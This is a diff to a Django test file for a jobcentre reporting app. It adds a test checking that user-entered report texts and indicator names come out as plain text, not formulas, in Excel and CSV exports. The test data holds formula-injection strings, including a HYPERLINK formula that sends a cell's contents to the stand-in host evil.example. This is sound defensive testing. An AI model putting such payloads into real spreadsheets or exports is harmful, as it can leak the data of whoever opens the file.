@@ -2,6 +2,7 @@
 sentence and the demo label; a report is kept per area × release × format; the chief's text edits are logged and
 printed; every report view and download answers by the reader's role; release packs e-mail a link, never figures."""
 
+import csv
 import io
 import re
 import shutil
@@ -17,11 +18,11 @@ from django.core import mail
 from django.utils import translation
 from pypdf import PdfReader
 
-from goals import progress
-from goals.models import ChartSnapshot, Target
+from goals import local_indicators, progress
+from goals.models import ChartSnapshot, Goal, Target
 from goals.templatetags.jobmaal import figure
 from indicators.models import ImportRun, Indicator, Observation
-from municipalities.models import Area, UserRole
+from municipalities.models import Area, Municipality, UserRole
 from reports import building, content, exports, packs, releases
 from reports.models import Report, ReportTextEdit, Subscription
 from tests import databases
@@ -334,3 +335,31 @@ def test_an_import_of_national_figures_queues_the_release_pack_and_an_own_upload
     upload = ImportRun.objects.create(source="manual", status="succeeded", rows_created=3)
     import_finished.send(sender=ImportRun, import_run=upload, indicator_ids=[])
     assert len(sent) == 1  # a municipality's own figures are no release
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'
+
+
+def test_no_name_or_text_from_a_user_runs_as_a_formula_in_the_report_workbook_or_csv(demo_data, client, monkeypatch):
+    """R10: a chief's report texts and own indicator's name come out as text in every sheet and in the CSV."""
+    monkeypatch.setattr(building, "enqueue", lambda pk: True)
+    jobcentre, area = _jobcentre("taarnby-dragoer"), _municipality("185")
+    chief = _user(client, "chief", "chief", jobcentre=jobcentre)
+    own = local_indicators.create(jobcentre, Goal.objects.get(number=3), Municipality.objects.get(code="185"), chief,
+                                  name=HOSTILE_NAME, unit="count", polarity="higher", definition="Egen")  # fmt: skip
+    local_indicators.set_value(own, jobcentre, Municipality.objects.get(code="185"), "2021M12", Decimal(4), chief)
+    texts = {"goal_1": "=1+2", "goal_2": "-2+3 er en tekst", "goal_3": "@SUM(A1:A9)"}
+    assert client.post("/kommune/185/rapporter/tekster/", texts).status_code == 302
+
+    book = openpyxl.load_workbook(io.BytesIO(bytes(_built(area, "xlsx").content)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert {"=1+2", "-2+3 er en tekst", "@SUM(A1:A9)", HOSTILE_NAME} <= values
+    assert sum(c.data_type == "n" for c in cells) > 100  # the figures stay numbers
+
+    rows = list(csv.reader(io.StringIO(bytes(_built(area, "csv").content).decode("utf-8-sig")), delimiter=";"))
+    names = [row[1] for row in rows if HOSTILE_NAME in row[1]]
+    assert names and set(names) == {"'" + HOSTILE_NAME}
+    formula_like = [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert formula_like == []
